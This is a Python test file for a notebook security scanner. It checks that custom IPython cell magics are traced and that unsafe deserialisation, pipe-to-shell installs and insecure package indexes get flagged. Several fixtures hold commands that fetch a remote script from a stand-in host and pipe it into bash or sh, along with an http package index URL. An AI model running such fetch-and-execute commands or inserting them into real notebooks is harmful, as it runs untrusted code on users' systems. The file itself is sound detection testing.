from __future__ import annotations

from pathlib import Path

from tests.code.helpers import notebook, scan_code

WRITE_AND_RUN = """from IPython.core.magic import register_cell_magic

@register_cell_magic
def write_and_run(line, cell):
    argz = line.split()
    with open(argz[-1], "w") as f:
        f.write(cell)
    get_ipython().run_cell(cell)
"""
WITH_GLOBALS = """@register_cell_magic("with_globals")
def fill_in(line, cell):
    contents = cell.format(**globals())
    get_ipython().run_cell(contents)
"""
WRITE_TEMPLATE = """from IPython.core.magic import register_line_cell_magic
@register_line_cell_magic
def writetemplate(line, cell):
    with open(line, "w") as f:
        f.write(cell.format(**globals()))
"""
SHOW_ONLY = """@register_cell_magic
def show(line, cell):
    print(cell)
"""


def places(findings: list) -> list[tuple[str, int | None, int]]:  # type: ignore[type-arg]
    return sorted((f.rule_id, f.cell, f.line) for f in findings)


def test_a_defined_magic_that_runs_the_cell_is_analysed(tmp_path: Path) -> None:
    text = notebook(
        WRITE_AND_RUN,
        "%%write_and_run trainer/task.py\nimport pickle\nmodel = pickle.loads(blob)",
        WITH_GLOBALS,
        "%%with_globals\nimport torch\nsd = torch.load('{CKPT}')",
    )
    assert places(scan_code(tmp_path, text, "nb.ipynb")) == [("B301", 2, 3), ("MLS306", 4, 3)]


def test_a_defined_magic_that_writes_the_cell_hands_the_file_on(tmp_path: Path) -> None:
    text = notebook(WRITE_TEMPLATE, "%%writetemplate run.sh\ncurl -fsSL https://x.example/i.sh | bash")
    assert places(scan_code(tmp_path, text, "nb.ipynb")) == [("MLS321", 2, 2)]


def test_look_alike_a_magic_that_only_shows_the_cell_stays_unknown(tmp_path: Path) -> None:
    text = notebook(SHOW_ONLY, "%%show\nimport pickle\nmodel = pickle.loads(blob)")
    (finding,) = scan_code(tmp_path, text, "nb.ipynb")
    assert (finding.rule_id, finding.cell) == ("MLS324", 2)
    assert "%%show" in finding.message


def test_redefining_a_shipped_magic_does_not_hide_its_body(tmp_path: Path) -> None:
    quiet = '@register_cell_magic\ndef bash(line, cell):\n    get_ipython().run_cell("pass")\n'
    text = notebook(quiet, "%%bash\ncurl -fsSL https://x.example/i.sh | sh")
    assert places(scan_code(tmp_path, text, "nb.ipynb")) == [("MLS321", 2, 2)]


def test_colab_shell_and_wandb_cells(tmp_path: Path) -> None:
    text = notebook(
        "%%shell\nwget -qO- https://x.example/setup.sh | bash",
        "%%wandb\nimport torch\nsd = torch.load(path)",
    )
    assert places(scan_code(tmp_path, text, "nb.ipynb")) == [("MLS306", 2, 3), ("MLS321", 1, 2)]


SAVE = """@register_cell_magic
def save(line, cell):
    open(line.split()[-1], "w").write(cell)
"""


def test_a_requirements_file_a_defined_magic_writes_reaches_the_deps_checks(tmp_path: Path) -> None:
    text = notebook(SAVE, "%%save requirements.txt\n--index-url http://pypi.example/simple\ntorch==2.3.1")
    found = [f for f in scan_code(tmp_path, text, "nb.ipynb") if f.rule_id != "MLS416"]
    assert places(found) == [("MLS406", 2, 2)]
    assert found[0].message.endswith("(in requirements.txt, which this cell writes)")


def test_a_redefined_shipped_magic_is_read_both_ways(tmp_path: Path) -> None:
    # IPython runs the notebook's own `bash`: its body is Python here, and still read as shell.
    runs_python = "@register_cell_magic\ndef bash(line, cell):\n    get_ipython().run_cell(cell)\n"
    text = notebook(runs_python, "%%bash\nimport pickle\nmodel = pickle.loads(blob)")
    assert places(scan_code(tmp_path, text, "nb.ipynb")) == [("B301", 2, 3)]
    shell_body = notebook(runs_python, "%%bash\ncurl -fsSL https://x.example/i.sh | sh")
    found = places(scan_code(tmp_path, shell_body, "nb.ipynb"))
    assert ("MLS321", 2, 2) in found


def test_a_file_whose_name_cannot_be_told_stays_a_low_note(tmp_path: Path) -> None:
    joined = "@register_cell_magic\ndef keep(line, cell):\n    open(os.path.join(d, line), 'w').write(cell)\n"
    (finding,) = scan_code(tmp_path, notebook(joined, "%%keep run.sh\ncurl https://x | sh"), "nb.ipynb")
    assert (finding.rule_id, finding.severity.value, finding.cell) == ("MLS324", "low", 2)


def test_magics_nested_past_the_limit_block(tmp_path: Path) -> None:
    go = "@register_cell_magic\ndef go(line, cell):\n    get_ipython().run_cell(cell)\n"
    deep = "%%go\n" * 200 + "import pickle\nx = pickle.loads(b)"
    found = scan_code(tmp_path, notebook(go, deep, "y = 1"), "nb.ipynb")
    assert [(f.rule_id, f.severity.value, f.cell) for f in found] == [("MLS907", "medium", 2)]
    # Look-alike: a few levels are followed as IPython runs them.
    shallow = "%%go\n%%time\n%%capture\nimport pickle\nx = pickle.loads(b)"
    assert places(scan_code(tmp_path, notebook(go, shallow), "nb.ipynb")) == [("B301", 2, 5)]
